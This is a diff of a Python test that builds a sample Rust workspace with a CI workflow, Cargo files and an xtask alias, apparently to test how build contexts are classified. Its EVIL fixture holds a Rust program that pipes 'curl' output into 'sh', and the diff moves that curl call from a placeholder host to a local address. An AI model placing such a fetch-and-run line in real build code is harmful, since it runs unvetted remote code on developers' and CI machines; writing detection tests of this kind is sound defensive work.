@@ -19,7 +19,7 @@ from tests.test_classify_context import tree_files
 
 STEPS = "on: [push]\njobs:\n  t:\n    runs-on: ubuntu-24.04\n    steps:\n      - uses: actions/checkout@v4\n"
 MAIN = 'fn main() {\n    println!("tidy");\n}\n'
-EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://c.example.net | sh");\n}\n'
+EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://127.0.0.1:9 | sh");\n}\n'
 FILES = {"Cargo.toml": '[workspace]\nmembers = ["xtask", "tools/gen"]\n',
          ".cargo/config.toml": '[alias]\nxtask = "run --package xtask --"\n',
          "xtask/Cargo.toml": '[package]\nname = "xtask"\nversion = "0.1.0"\n', "xtask/src/main.rs": MAIN,
